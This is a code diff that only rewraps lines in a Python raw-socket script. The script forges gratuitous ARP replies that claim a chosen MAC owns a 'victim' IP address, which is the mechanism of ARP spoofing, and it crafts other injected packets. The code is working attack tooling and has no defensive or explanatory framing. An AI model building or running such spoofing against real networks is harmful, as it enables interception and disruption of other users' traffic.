@@ -14,7 +14,10 @@ def main() -> None:
     interface, kind, source_mac, victim, target, target_mac, port = sys.argv[1:]
     raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
     raw.bind((interface, 0))
-    source, destination = bytes.fromhex(source_mac.replace(":", "")), bytes.fromhex(target_mac.replace(":", ""))
+    source, destination = (
+        bytes.fromhex(source_mac.replace(":", "")),
+        bytes.fromhex(target_mac.replace(":", "")),
+    )
     if kind == "arp":
         frame = arp(source, victim)
     else:
@@ -37,7 +40,16 @@ def main() -> None:
 def arp(mac: bytes, address: str) -> bytes:
     """A gratuitous reply: this MAC has that address."""
     ip = socket.inet_aton(address)
-    return b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + ip + b"\xff" * 6 + ip
+    return (
+        b"\xff" * 6
+        + mac
+        + b"\x08\x06"
+        + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
+        + mac
+        + ip
+        + b"\xff" * 6
+        + ip
+    )
 
 
 def packet(kind: str, source: str, target: str, port: int) -> bytes:
